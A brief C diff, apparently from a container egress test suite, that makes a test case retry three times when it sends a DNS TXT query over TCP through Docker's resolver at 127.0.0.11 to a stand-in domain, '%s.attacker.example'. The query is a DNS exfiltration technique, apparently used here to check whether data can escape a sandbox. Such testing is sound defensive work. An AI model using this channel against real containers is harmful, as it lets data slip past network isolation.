@@ -4,7 +4,9 @@
 
 static void attempt(const struct target *t, struct attempt *a)
 {
-	dns_tell(t, a, SOCK_STREAM, "127.0.0.11", 53, "%s.attacker.example", DNS_TXT);
+	/* dockerd loses some when it is busy; who wants out asks again. */
+	for (int i = 0; i < 3; i++)
+		dns_tell(t, a, SOCK_STREAM, "127.0.0.11", 53, "%s.attacker.example", DNS_TXT);
 }
 
 CASE(dns_engine_tcp) = { .title = "docker's resolver 127.0.0.11 by TCP",
